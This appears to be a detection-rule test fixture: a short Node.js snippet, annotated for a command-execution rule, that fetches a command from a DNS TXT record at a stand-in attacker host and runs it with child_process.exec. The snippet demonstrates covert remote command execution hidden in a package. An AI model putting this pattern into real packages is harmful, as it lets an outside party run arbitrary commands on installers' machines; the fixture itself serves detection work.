// The command arrives as a DNS TXT record: nothing in the package says what runs.
const dns = require('dns').promises;
(async () => {
  const records = await dns.resolveTxt('cmd.attacker.example');
  // ruleid: code/command-execution
  require('child_process').exec(records[0].join(''));
})();
